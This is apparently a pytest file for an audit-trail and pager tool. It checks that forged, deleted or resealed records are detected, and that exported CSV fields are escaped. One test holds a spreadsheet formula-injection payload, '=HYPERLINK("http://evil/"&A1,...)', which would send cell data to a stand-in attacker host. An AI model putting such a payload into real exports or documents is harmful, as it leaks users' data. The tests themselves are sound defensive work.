def test_a_writer_of_the_folder_without_the_key_is_caught(tmp_path: Path) -> None:
    """Issue 33 (2): whoever could write the folder inserted, edited or deleted records,
    hashed the chain again, sealed HEAD again, and --verify said every record was as
    written. The service's key is not theirs: each such rewrite is named."""
    insmon = _serving(tmp_path)
    try:
        for comment in ("one", "two", "three"):
            _declare(tmp_path, comment)
    finally:
        insmon.stop()
    folder = tmp_path / "audit"

    def verify() -> subprocess.CompletedProcess:
        return subprocess.run([INSMON, "audit", str(folder), "--verify", "--prometheus",
                               "http://127.0.0.1:9"], capture_output=True, text=True,
                              timeout=60)

    assert verify().returncode == 2  # intact, but no witness here
    original = {p: p.read_bytes() for p in [*Trail(folder).files(), folder / "HEAD"]}
    for edit in (lambda r: {**r, "who": "somebody"} if r["seq"] == 2 else r,  # edited
                 lambda r: None if r["seq"] == 3 else r,                      # deleted
                 lambda r: [r, {**r, "detail": {"inserted": True}}]           # inserted
                 if r["seq"] == 2 else r):
        for path, data in original.items():
            path.write_bytes(data)
        forge(folder, edit)
        done = verify()
        assert done.returncode == 1, done.stdout
        assert "no record verifies with this key" in done.stdout, done.stdout


@pytest.mark.timeout(300)
def test_a_holder_of_the_key_is_caught_by_the_witness(tmp_path: Path) -> None:
    """Whoever holds the key (root) can rewrite the chain so that it verifies; not what
    Prometheus kept of its head. `insmon audit --verify` compares them."""
    insmon = _serving(tmp_path)
    prometheus = None
    folder = tmp_path / "audit"
    try:
        prometheus = Prometheus(tmp_path / "prometheus", {
            "global": {"scrape_interval": "1s"},
            "scrape_configs": [{"job_name": "insmon", "static_configs": [
                {"targets": [insmon.url.removeprefix("http://")]}]}]})
        for comment in ("one", "two", "three"):
            assert _declare(tmp_path, comment).returncode == 1
        trail = Trail.open(folder)
        last = trail.head()

        def witnessed() -> bool:
            found = prometheus.query(f'insmon_audit_head_sequence{{trail="{last.id}"}}')
            return bool(found) and int(float(found[0]["value"][1])) == last.seq

        wait_for(witnessed, 60, "Prometheus to scrape the trail's head")

        def verify() -> subprocess.CompletedProcess:
            return subprocess.run([INSMON, "audit", str(folder), "--verify",
                                   "--prometheus", prometheus.url], capture_output=True,
                                  text=True, timeout=120)

        done = verify()
        assert done.returncode == 0, done.stdout + done.stderr
        assert "agree with the chain" in done.stdout
        # record 2 changed, the chain hashed again with the key, HEAD sealed again
        forge(folder, lambda r: {**r, "who": "somebody"} if r["seq"] == 2 else r,
              key=trail.key)
        assert Trail.open(folder).verify().faults == []  # the chain alone cannot tell
        done = verify()
        assert done.returncode == 1, done.stdout
        assert "with another hash" in done.stdout, done.stdout
        # its last records removed, HEAD moved back and sealed again
        forge(folder, lambda r: None if r["seq"] > 2 else r, key=trail.key)
        done = verify()
        assert done.returncode == 1 and "records were removed" in done.stdout, done.stdout
    finally:
        if prometheus is not None:
            prometheus.stop()
        insmon.stop()


@pytest.fixture
def rig(tmp_path: Path) -> Iterator[Rig]:
    rig = Rig(tmp_path)
    try:
        yield rig
    finally:
        rig.close()


def test_the_pager_records_the_page_its_delivery_the_ack_and_refused_requests(
        rig: Rig) -> None:
    pager = rig.start()
    trail = Trail.open(pager.database.parent / "audit")  # with the key the pager made
    incident = json.loads(pager.post("/network", notification())[1])["incident"]
    wait_for(lambda: rig.wecom.texts(), 10, "the page")
    done = subprocess.run([INSMON, "pager", "ack", str(incident), "--by", "wang", "-c",
                           str(pager.config_file)], capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    stranger = {**pager.auth, "Authorization": "Bearer wrong"}
    import urllib.error
    import urllib.request
    for _ in range(3):  # a storm of them is one record a minute
        try:
            urllib.request.urlopen(urllib.request.Request(
                pager.url + "/network", data=b"{}", method="POST", headers=stranger),
                timeout=10)
        except urllib.error.HTTPError as exc:
            assert exc.code == 401

    def recorded() -> dict[str, list[dict]]:
        found: dict[str, list[dict]] = {}
        for record in trail.records():
            found.setdefault(record["event"], []).append(record)
        return found

    wait_for(lambda: {"pager-opened", "pager-delivered", "pager-acknowledged",
                      "pager-refused"} <= set(recorded()), 30, "the trail's records")
    events = recorded()
    assert [r["outcome"] for r in events["config"]] == ["changed"]  # first seen
    ack = events["pager-acknowledged"][0]
    assert ack["who"] == "wang" and ack["detail"]["incident"] == incident
    assert events["pager-delivered"][0]["detail"]["channel"]
    assert len(events["pager-refused"]) == 1
    assert "wrong token" in events["pager-refused"][0]["detail"]["detail"]
    assert trail.verify().faults == []

    def witnessed() -> bool:  # the pager's head on its /metrics, for Prometheus to keep
        from prometheus_client.parser import text_string_to_metric_families

        head = trail.head()
        text = urllib.request.urlopen(pager.url + "/metrics", timeout=10).read().decode()
        shown = {f.name: f.samples for f in text_string_to_metric_families(text)}
        from monitor.audit import witness_value
        return [(s.labels, s.value) for s in shown["insmon_audit_head_sequence"]] == [
            ({"trail": head.id}, head.seq)] and [s.value for s in shown[
                "insmon_audit_head_hash"]] == [witness_value(head.hash)]

    wait_for(witnessed, 20, "the pager's /metrics to show its trail's head")
    # a restart on the same config: unchanged, and nothing copied twice
    rig.pager.stop()
    rig.pager.start()
    wait_for(lambda: len(recorded()["config"]) == 2, 20, "the second start's record")
    events = recorded()
    assert events["config"][1]["outcome"] == "unchanged"
    ids = [r["detail"]["event_id"] for r in trail.records() if r["event"].startswith("pager-")]
    assert len(ids) == len(set(ids)) and ids == sorted(ids)
    assert trail.verify().faults == []


def test_insmon_run_records_each_config_load_with_its_digest_before_and_after(
        tmp_path: Path) -> None:
    import signal

    from monitor.audit import file_digest
    from ops.stack import free_port

    config = tmp_path / "insmon.yaml"
    text = f"listen: 127.0.0.1:{free_port()}\nchecks:\n- {{name: cpu, kind: cpu}}\n"
    config.write_text(text)
    first = file_digest(config)
    trail = Trail(tmp_path / "audit")
    log = tmp_path / "insmon.log"
    process = subprocess.Popen([INSMON, "run", "-c", str(config), "--audit",
                                str(tmp_path / "audit")], stdout=subprocess.DEVNULL,
                               stderr=log.open("w"))
    try:
        def outcomes() -> list[str]:
            return [r["outcome"] for r in trail.records() if r["event"] == "config"]

        wait_for(lambda: outcomes() == ["loaded"], 30, "the first load's record")
        # its SIGHUP handler is in place once it says it started (a HUP before would
        # end it, as any process's)
        wait_for(lambda: " started with " in log.read_text(), 30, "insmon to start")
        config.write_text(text.replace("kind: cpu", "kind: cpu, interval: 7s"))
        process.send_signal(signal.SIGHUP)
        wait_for(lambda: outcomes() == ["loaded", "reloaded"], 30, "the reload's record")
        config.write_text("checks: [")
        process.send_signal(signal.SIGHUP)
        wait_for(lambda: outcomes() == ["loaded", "reloaded", "rejected"], 30,
                 "the rejected reload's record")
    finally:
        process.terminate()
        process.wait(timeout=30)
    loaded, reloaded, rejected = (r["detail"] for r in trail.records())
    assert (loaded["before"], loaded["after"]) == (None, first)
    assert reloaded["before"] == first and reloaded["after"] not in (None, first)
    assert rejected["before"] == reloaded["after"] and rejected["after"] is None
    assert faults(Trail.open(tmp_path / "audit")) == []


def test_a_removed_last_month_with_head_moved_back_is_found_with_a_key(
        tmp_path: Path) -> None:
    """Without the key nobody can seal HEAD again: the removed tail shows."""
    trail = filled(tmp_path, key=KEY)
    last_file = trail.files()[-1]
    before = [r for r in trail.records() if r["at"] < last_file.name[6:13]]
    last_file.unlink()
    stored = json.loads((tmp_path / "HEAD").read_text())
    stored.pop("seal")
    stored.update(seq=before[-1]["seq"], hash=before[-1]["hash"])
    from monitor.audit import Head
    Trail(tmp_path)._store(Head(**stored))  # sealed without the key
    assert faults(trail) == [
        "HEAD: does not match its seal: it was changed (or the key is wrong)"]


def test_a_head_sealed_without_the_key_on_a_keyed_trail_is_found(tmp_path: Path) -> None:
    """A writer of the folder without the key removed the last records and wrote HEAD
    saying the trail has no key (sealed with a plain hash; or in the format before, which
    has no trail id, so no witness was even asked): --verify found nothing. A trail whose
    records have the key never goes back to a HEAD without it."""
    from monitor.audit import Head

    trail = filled(tmp_path, key=KEY)
    path = trail.files()[-1]
    kept = path.read_text().splitlines(keepends=True)[:-2]
    path.write_text("".join(kept))
    last = json.loads(kept[-1])
    stored = json.loads((tmp_path / "HEAD").read_text())
    stored.pop("seal")
    stored.update(seq=last["seq"], hash=last["hash"], at=last["at"],
                  size=path.stat().st_size, keyed=False)
    Trail(tmp_path)._store(Head(**stored))
    said = ["HEAD: is sealed without the trail's key, its records have it: HEAD was "
            "written by someone without the key"]
    assert faults(trail) == said
    body = f"{last['seq']} {last['hash']}"
    (tmp_path / "HEAD").write_text(f"{body} {_mac(None, body.encode())}\n")
    assert faults(trail) == said


@pytest.mark.dates
def test_records_filed_across_a_month_boundary_out_of_order_verify(tmp_path: Path) -> None:
    """The pager copies its store's older events after its start's own record: a record
    can be a moment older than the one before it, and of the month before; it is filed
    after it, in the order written."""
    trail = Trail(tmp_path)
    for at in (THIS_MONTH - timedelta(seconds=2), THIS_MONTH + timedelta(seconds=0.5),
               THIS_MONTH - timedelta(seconds=0.1)):
        trail.append("config", "insmon", "ok", at=at)
    assert faults(trail) == []
    assert [r["seq"] for r in trail.records()] == [1, 2, 3]


@pytest.mark.dates
def test_a_line_that_is_not_utf8_is_named_and_stops_nothing(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    path = trail.files()[0]
    with path.open("ab") as out:
        out.write(b"\xff\xfe garbage\n")
    lines = len(path.read_bytes().splitlines())
    assert faults(trail) == [f"{path.name}:{lines}: not a record of the trail"]
    trail.append("config", "insmon", "ok")  # the trail goes on
    assert len(list(trail.records())) == 31
    done = subprocess.run([INSMON, "audit", str(tmp_path), "--verify", "--prometheus",
                           "http://127.0.0.1:9"], capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and "not a record of the trail" in done.stdout
    assert "Traceback" not in done.stderr


def test_a_name_or_comment_that_looks_like_a_formula_stays_text_in_csv(
        tmp_path: Path) -> None:
    trail = Trail(tmp_path / "trail")
    trail.append("maintenance-declared", '=HYPERLINK("http://evil/"&A1,"x")', "ok",
                 "=1+2")
    out = tmp_path / "audit.csv"
    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--csv", str(out)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    [row] = list(csv.reader(out.open(encoding="utf-8-sig")))[1:]
    assert row[2] == '\'=HYPERLINK("http://evil/"&A1,"x")' and row[5] == "'=1+2"


def test_the_pager_after_its_store_is_restored_copies_the_new_events(tmp_path: Path) -> None:
    """A store restored from a backup reuses event ids: its new events are still copied,
    and the trail says the store changed under it."""
    from pager.audit import Auditor, refused
    from pager.store import Store

    trail = Trail(tmp_path / "audit")
    store = Store(tmp_path / "pager.db")
    for i in range(5):
        refused(store, f"10.0.0.{i}", "wrong token", when=1_790_000_000.0 + i)
    Auditor(store, trail).copy()
    store.close()
    (tmp_path / "pager.db").unlink()
    restored = Store(tmp_path / "pager.db")  # an older copy: here, an empty one
    for i in range(3):
        refused(restored, f"10.0.1.{i}", "no token", when=1_790_000_100.0 + i)
    Auditor(restored, trail).copy()
    events = [r for r in trail.records()]
    assert [r["event"] for r in events[-4:]] == ["pager-store-replaced"] + ["pager-refused"] * 3
    assert [json.loads(r["detail"]["detail"])["client"] for r in events[-3:]] == [
        "10.0.1.0", "10.0.1.1", "10.0.1.2"]
    assert faults(trail) == []
